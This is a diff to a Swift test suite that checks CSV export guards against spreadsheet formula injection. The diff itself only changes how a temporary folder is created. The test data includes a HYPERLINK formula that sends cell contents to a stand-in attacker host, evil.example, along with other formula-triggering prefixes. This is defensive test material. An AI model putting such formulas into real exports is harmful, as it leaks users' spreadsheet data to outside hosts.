@@ -6,7 +6,7 @@ import Testing
 struct SpreadsheetFormulaTests {
     @Test("--failed-out neutralises names a spreadsheet would run, and they read back as they were")
     func failedRowsAreNeutralised() throws {
-        let url = try makeTempDirectory().appendingPathComponent("failed.csv")
+        let url = try TemporaryFolder("invite").url.appendingPathComponent("failed.csv")
         let hyperlink = #"=HYPERLINK("http://evil.example/?"&A1,"click")"#
         let writer = try FailedRowsWriter(url: url, header: ["email", "first_name", "=last"])
         try writer.write(fields: ["-a@x.io", hyperlink, "@SUM(1+1)"], reason: "+reason")
